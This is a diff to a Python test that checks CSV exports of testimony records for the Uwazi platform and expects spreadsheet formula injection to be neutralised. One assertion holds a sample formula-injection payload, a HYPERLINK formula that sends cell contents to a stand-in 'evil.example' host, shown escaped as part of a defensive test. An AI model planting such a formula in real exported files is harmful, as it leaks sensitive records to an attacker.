@@ -267,10 +267,17 @@ def test_f6_uwazi_cells_cannot_be_formulas(vault: Vault, tmp_path: Path) -> None
     RecordStore(vault).save(interchange.validate(make_testimony(
         TID_A, {"publication": {"value": "granted", "anonymity": "full_name"}}, victim=v)))
     texts = export(vault, "uwazi", "publication", [f"{TID_A}/v1"], tmp_path / "o")
-    cells = [c for name, text in texts.items() if name.endswith(".csv")
+    named = [(name, c) for name, text in texts.items() if name.endswith(".csv")
              for row in csv.reader(io.StringIO(text)) for c in row]
+    cells = [c for _, c in named]
     assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells and "'@SUM(1,2)" in cells
-    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
+
+    def formula(c: str) -> bool:
+        return c[:1] in ("=", "+", "-", "@")
+
+    # A thesaurus's '-' nesting marker is Uwazi syntax; the label after it is escaped like any cell.
+    assert not [c for name, c in named
+                if formula(c) and not (name.startswith("thesaurus-") and c.startswith("-") and not formula(c[1:]))]
 
 
 # ---- finding 4 at import: a laptop's bundle cannot bring what a save refuses ------------------------------
